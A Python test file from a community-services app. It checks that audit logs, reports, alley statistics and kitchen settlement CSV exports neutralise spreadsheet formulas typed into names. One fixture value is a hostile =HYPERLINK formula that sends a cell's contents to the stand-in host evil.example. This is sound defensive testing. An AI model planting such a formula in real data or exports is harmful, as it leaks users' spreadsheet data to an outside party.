"""Every CSV the app writes neutralises what a spreadsheet would run (issue 19 item 3): names and reasons
typed as `=HYPERLINK(…)` come out as text in the audit log, the alleys' statistics, the kitchen's settlement
and the community report; and no code writes a CSV except through neighbors/spreadsheets.py."""
import csv
import io
from pathlib import Path

import pytest

from neighbors.alleys import services as alleys
from neighbors.kitchen import services as kitchen
from neighbors.staff import services as staff
from tests.factories import make_building, make_community, make_user

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_community(app, now):
    community = make_community(HOSTILE)
    people = {"staff": make_user(community, "staff", name="蔡慧敏"),
              "operator": make_user(community, "kitchen", name="林阿水")}
    building = make_building(community, "镇海路12号")
    kitchen.register_kitchen(people["staff"], community.id, HOSTILE, "镇海路36号", "10:30-13:00", False, [],
                             [people["operator"].id], now)
    branch = alleys.save_branch(people["staff"], community.id, "-1+1 支部", None, now=now)
    alleys.save_alley(people["staff"], community.id, "@SUM(A1) 巷", branch_id=branch.id, now=now)
    staff.register_resident(people["staff"], community.id, name="+86 郑长华", birth_date=None,
                            building_id=building.id, unit="2单元301室", needs_care=False, now=now)
    return community, people


def _cells(response) -> list[str]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _exports(community, now) -> dict[str, str]:
    month = f"{now:%Y-%m}"
    return {"audit": "/staff/audit?format=csv", "report": f"/staff/reports/monthly?month={month}&format=csv",
            "alleys": f"/alleys/stats.csv?month={month}", "settlement": f"/kitchen/manage/settlement.csv?month={month}"}


@pytest.mark.parametrize("export", ["audit", "report", "alleys", "settlement"])
def test_no_cell_of_an_export_starts_a_formula(hostile_community, auth, web, now, export):
    community, people = hostile_community
    auth.login(people["operator"] if export == "settlement" else people["staff"])
    cells = _cells(web.get(_exports(community, now)[export]))
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert any(cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) for cell in cells), \
        "the hostile text should be in this export, neutralised"


def test_nothing_writes_csv_but_the_one_writer():
    package = Path(__file__).resolve().parents[2] / "neighbors"
    writers = [str(path.relative_to(package)) for path in package.rglob("*.py")
               if "csv.writer" in path.read_text(encoding="utf-8") and path.name != "spreadsheets.py"
               and "bench_data" not in path.parts]
    assert writers == []
